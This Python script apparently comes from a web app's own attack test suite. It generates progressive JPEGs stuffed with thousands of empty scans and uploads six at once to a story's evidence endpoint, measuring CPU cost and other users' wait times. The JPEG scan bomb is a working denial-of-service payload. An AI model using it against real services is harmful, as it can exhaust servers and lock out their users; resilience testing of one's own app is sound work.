"""Pictures of 8,000 empty scans, and of many parts, sent by somebody with a private link: what others wait for."""

from __future__ import annotations

import asyncio
import io
import sys
from pathlib import Path

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).parent.parent))


import httpx2
from PIL import Image
from support.app import filled_form

from attack.target import Row, Target, run, target

SCAN = b"\xff\xda\x00\x08\x01\x01\x00\x01\x01\x00"  # of no coefficients: eight bytes of head, and nothing in it


def of_scans(many: int, size: tuple[int, int] = (1600, 1600)) -> bytes:
    """Makes a progressive JPEG with so many scans that change nothing."""
    out = io.BytesIO()
    Image.new("RGB", size, (90, 120, 60)).save(out, "JPEG", progressive=True, quality=50)
    content = out.getvalue()
    end = content.rindex(b"\xff\xd9")
    return content[:end] + (SCAN + b"\x00" * 45) * many + content[end:]


async def attack(large: bool = False) -> list[Row]:
    """Sends six at once, while somebody asks for a page."""
    many = 8000 if large else 2000
    async with target() as house, browser_of(house) as browser:
        key = await begun(browser)
        path = f"/my-story/{key}/evidence"
        bombs = [of_scans(many, (1600 + n, 1600)) for n in range(6)]
        before = house.cpu()
        async with house.others() as others:
            answers = await asyncio.gather(*(send(browser, path, bomb) for bomb in bombs))
        cpu = house.cpu() - before
        assert {answer.status_code for answer in answers} <= {303, 422}, [answer.status_code for answer in answers]
        good = io.BytesIO()
        Image.effect_noise((900, 700), 60).convert("RGB").save(good, "JPEG")
        assert (await send(browser, path, good.getvalue())).status_code == 303
    name = f"6 JPEGs of {many:,} scans"
    return [
        Row(name, "CPU until all are answered", cpu, "pages", 750),
        Row(name, "others wait at most", others.worst, "pages", 60),
    ]


def browser_of(house: Target) -> httpx2.AsyncClient:
    """Opens a browser of its own, with all its cookies."""
    base = f"http://{house.host}"
    return httpx2.AsyncClient(base_url=base, headers={"Origin": base, "Accept": "text/html"}, timeout=120)


async def begun(browser: httpx2.AsyncClient) -> str:
    """Begins a story; returns the key of its private link."""
    listed = (await browser.get("/commissions")).text
    commission = listed.partition('href="/commissions/')[2].partition('"')[0]
    tell = f"/commissions/{commission}/tell"
    fields = filled_form(await browser.get(tell), {"happened.text": "He knocks again.", "title": "A knock"})
    answer = await browser.post(tell, data=fields)
    assert answer.status_code == 303, answer.text[:2000]
    return str(answer.headers["location"]).split("/")[2]


async def send(browser: httpx2.AsyncClient, path: str, content: bytes) -> httpx2.Response:
    return await browser.post(path, data={"title": "What it shows"}, files={"file": ("a.jpg", content, "image/jpeg")})


if __name__ == "__main__":
    run(lambda: attack("--large" in sys.argv))
